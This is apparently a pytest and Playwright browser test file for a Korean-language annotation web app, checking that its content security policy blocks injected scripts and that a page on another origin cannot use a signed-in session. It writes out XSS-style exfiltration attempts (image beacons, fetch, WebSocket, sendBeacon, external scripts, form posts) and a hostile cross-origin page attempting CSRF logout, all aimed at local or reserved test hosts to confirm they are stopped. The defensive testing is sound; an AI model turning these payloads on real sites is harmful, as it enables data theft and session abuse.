"""What a real browser lets the app's pages do, and what other pages can't do with the app.

That every page runs under the policy as it is opened, test_walk.py sees on its way through all of them.
"""

from __future__ import annotations

import re
from contextlib import closing, contextmanager
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import expect

from annotator import project, settings
from annotator.accounts import accounts
from annotator.importing import import_file
from annotator.labelling.queueing import enqueue_import
from annotator.messages import say
from db.answers import decisions
from pages.widgets.session import COOKIE
from tests import reviewed
from tests.browser.conftest import profile
from tests.browser.test_main_job import press, wait_until
from tests.chromium import CHROMIUM_ARGUMENTS, PATIENCE_MS, find_chromium, wait_for
from tests.listening import listening
from tests.web.gate.test_middleware import PASSWORD, serving, session_of

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from playwright.sync_api import Browser, BrowserContext, Page, Response


pytestmark = [pytest.mark.browser, pytest.mark.slow]

WATCH = "document.addEventListener('securitypolicyviolation', e => note(e.effectiveDirective + ' ' + e.blockedURI))"
DIARIES = "text\n" + "\n".join(f"{n}번째 일기. 오늘은 비가 왔다." for n in range(20))


@pytest.fixture(scope="module")
def path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A project in which every page has something to show, charts among it."""
    path = tmp_path_factory.mktemp("policy") / "policy.db"
    project.init(path, seed="00" * 16, blind_share=0.0)
    with closing(project.open_project(path)) as db:
        reviewed.make(db, 40)
        settings.change(db, speech_model=str(path.parent))
        import_file(db, DIARIES.encode(), "a.csv", after=enqueue_import)
    return path


@pytest.fixture(scope="module")
def address(path: Path) -> Iterator[str]:
    with serving(path) as port:
        yield f"http://127.0.0.1:{port}"


def watched(page: Page) -> list[str]:
    """Return what the content policy stops in a tab, as it happens."""
    reports: list[str] = []
    page.expose_function("note", lambda violation: reports.append(violation))
    page.add_init_script(WATCH)
    return reports


@pytest.fixture
def violations(page: Page) -> list[str]:
    return watched(page)


def settle(page: Page) -> None:
    page.locator("[data-test-script-state='notRunning']").wait_for()
    expect(page.locator("[data-testid='stSkeleton']")).to_have_count(0)


def test_a_browser_in_english_starts_in_english_until_somebody_chooses(browser: Browser, address: str) -> None:
    with closing(browser.new_context(locale="en-US")) as english:
        tab = english.new_page()
        tab.goto(f"{address}/import")
        expect(tab.locator("html")).to_have_attribute("lang", "en")
        expect(tab.get_by_role("heading", level=1)).to_have_text(say("import_page.title", "en"))
        tab.get_by_text("한국어").click()
        expect(tab.get_by_role("heading", level=1)).to_have_text(say("import_page.title", "ko"))
        tab.reload()
        expect(tab.locator("html")).to_have_attribute("lang", "ko")


def test_what_people_do_runs_under_the_policy(
    address: str, path: Path, page: Page, context: BrowserContext, violations: list[str], tmp_path: Path
) -> None:
    page.goto(address)
    expect(page.get_by_role("article")).to_contain_text(re.compile(r"#\d+"))
    with closing(project.open_project(path)) as db:
        before = decisions.last_decision_id(db)
        page.locator(".board .text[data-readable]").wait_for()
        press(page, "Digit1")
        wait_until(page, lambda: decisions.last_decision_id(db) == before + 1)
    page.get_by_text("English").click()
    expect(page.get_by_role("link", name="Overview")).to_be_visible()
    page.reload()
    expect(page.get_by_role("link", name="Overview")).to_be_visible()
    assert any(each.get("value") == "en" for each in context.cookies()), "our one inline script ran"
    page.goto(f"{address}/import")
    (tmp_path / "b.csv").write_text("text\n가져올 일기\n", "utf-8")
    page.locator("input[type=file]").set_input_files(tmp_path / "b.csv")
    page.get_by_role("button", name="Import", exact=True).click()
    page.goto(f"{address}/team")
    settle(page)
    with page.expect_download() as download:
        page.locator("[data-testid='stDownloadButton'] button").first.click()
    assert download.value.path().stat().st_size > 0
    assert violations == []


def test_a_recording_is_made_played_and_sent_under_the_policy(browser: Browser, address: str) -> None:
    fake = ["--use-fake-device-for-media-stream", "--use-fake-ui-for-media-stream"]
    arguments = [*CHROMIUM_ARGUMENTS, *fake]
    with closing(browser.browser_type.launch(executable_path=find_chromium(), args=arguments)) as chromium:
        context = chromium.new_context(permissions=["microphone"], locale="ko-KR")
        context.set_default_timeout(PATIENCE_MS)
        page = context.new_page()
        violations = watched(page)
        page.goto(f"{address}/try_out")
        settle(page)
        page.get_by_text("말로").first.click()
        page.get_by_role("button", name="녹음 시작", exact=True).click()
        page.wait_for_timeout(1500)  # what is recorded is time itself
        with page.expect_response(_is_upload) as sent:
            page.get_by_role("button", name="녹음 멈추기").click()
        assert sent.value.status == 204
        settle(page)
        assert violations == []


def _is_upload(answer: Response) -> bool:
    return "upload_file" in answer.url and answer.request.method == "PUT"


HEAD, BODY = (
    "document.head.insertAdjacentHTML('beforeend', `{}`)",
    "document.body.insertAdjacentHTML('beforeend', `{}`)",
)
MADE = "document.head.append(Object.assign(document.createElement('{}'), {}))"

ESCAPES = {
    "an image": ("new Image().src = 'http://127.0.0.1:1/x.png'", "img-src"),
    "a question": ("fetch('http://127.0.0.1:1/').catch(() => 0)", "connect-src"),
    "a websocket": ("try { new WebSocket('ws://127.0.0.1:1/') } catch (e) {}", "connect-src"),
    "a beacon": ("navigator.sendBeacon('http://127.0.0.1:1/', 'x')", "connect-src"),
    "a script from elsewhere": (MADE.format("script", "{src: 'http://127.0.0.1:1/x.js'}"), "script-src"),
    "a script in the page": (MADE.format("script", "{textContent: 'window.ran = 1'}"), "script-src"),
    "a handler in the page": (BODY.format("<img src=x onerror='ran=1'>"), "script-src"),
    "a text run as code": ("setTimeout('window.ran = 1')", "script-src"),
    "a style": (MADE.format("link", "{rel: 'stylesheet', href: 'http://127.0.0.1:1/x.css'}"), "style-src"),
    "a frame": (BODY.format("<iframe src='/'></iframe>"), "frame-src"),
    "an object": (BODY.format("<object data='/'></object>"), "object-src"),
    "another base": (HEAD.format("<base href='http://127.0.0.1:1/'>"), "base-uri"),
    "a form": (
        BODY.format("<form method=post action='http://127.0.0.1:1/' id=f></form>") + "; document.forms.f.submit()",
        "form-action",
    ),
}
"""What a script that got into a page might try, and the rule that stops it."""


@pytest.fixture(scope="module")
def attacked(browser: Browser, address: str) -> Iterator[tuple[Page, list[str]]]:
    """One page for all attempts, and what is stopped in it: an attempt that is stopped leaves the page as it was."""
    with closing(browser.new_context()) as context:
        page = context.new_page()
        violations = watched(page)
        page.goto(address)
        settle(page)
        yield page, violations


@pytest.mark.parametrize("name", ESCAPES)
def test_nothing_gets_out_of_a_page(address: str, attacked: tuple[Page, list[str]], name: str) -> None:
    (attempt, rule), (page, violations) = ESCAPES[name], attacked
    assert page.evaluate("document.baseURI").startswith(address), "no attempt before has led it elsewhere"
    violations.clear()
    page.evaluate(attempt)
    wait_until(page, lambda: any(each.startswith(rule) for each in violations))
    assert page.evaluate("window.ran") is None


@pytest.mark.parametrize(
    "asking",
    [
        "new Image().src = 'http://192.0.2.1/x.png'",
        "new Image().src = 'https://diary.example/x.png'",
        "new WebSocket('ws://192.0.2.1:8501/')",
        "fetch('http://192.0.2.1/', {method: 'POST', body: 'x', mode: 'no-cors'}).catch(() => 0)",
    ],
)
def test_a_page_that_asks_another_machine_is_noticed(browser: Browser, asking: str) -> None:
    with pytest.raises(AssertionError, match=r"192\.0\.2\.1|diary\.example"), profile(browser) as context:  # noqa: PT012
        page = context.new_page()
        page.evaluate(asking)
        page.wait_for_timeout(500)  # nothing of the page tells when it has been asked


@contextmanager
def elsewhere(folder: Path) -> Iterator[str]:
    """Serve a folder on another port of this machine."""
    handler = partial(_Quiet, directory=str(folder))
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    with listening(server):
        yield f"http://127.0.0.1:{server.server_port}"


class _Quiet(SimpleHTTPRequestHandler):
    def log_message(self, *_: object) -> None:
        pass


ATTACK = """<!doctype html><title>evil</title><iframe id="frame" src="APP/overview"></iframe><script>
const socket = new WebSocket("APP".replace("http", "ws") + "/_stcore/stream", ["streamlit"]);
socket.onopen = () => { window.socket = "open"; };
socket.onerror = () => { window.socket = "refused"; };
fetch("APP/_stcore/host-config", {credentials: "include"}).then(() => { window.read = "read"; },
  () => { window.read = "refused"; });
fetch("APP/logout", {method: "POST", mode: "no-cors", credentials: "include"}).finally(() => { window.posted = 1; });
</script><script src="APP/_stcore/host-config"></script>"""


@pytest.mark.parametrize("is_solo", [True, False])
def test_a_page_on_another_port_can_do_nothing_with_a_signed_in_app(
    browser: Browser, tmp_path: Path, is_solo: bool
) -> None:
    path = tmp_path / "attacked.db"
    project.init(path)
    if not is_solo:
        with project.opened(path) as db:
            accounts.add(db, None, "수아", "administrator", password=PASSWORD)
    site = tmp_path / "site"
    site.mkdir()
    with serving(path) as port, elsewhere(site) as evil, closing(browser.new_context()) as context:
        app = f"http://127.0.0.1:{port}"
        (site / "index.html").write_text(ATTACK.replace("APP", app))
        if not is_solo:
            context.add_cookies([{"name": COOKIE, "value": session_of(path, "수아"), "url": app}])
        own = context.new_page()
        own.goto(app)
        settle(own)
        page = context.new_page()
        page.goto(evil)
        wait_for(page, "window.socket && window.read && window.posted")
        assert page.evaluate("[window.socket, window.read]") == ["refused", "refused"]
        assert (
            page.frames[-1].url.startswith(("chrome-error:", "about:blank"))
            or not page.frames[-1].locator("#root").count()
        )
        own.reload()
        settle(own)
        expect(own.locator("[data-testid='stSidebar']")).to_be_visible()
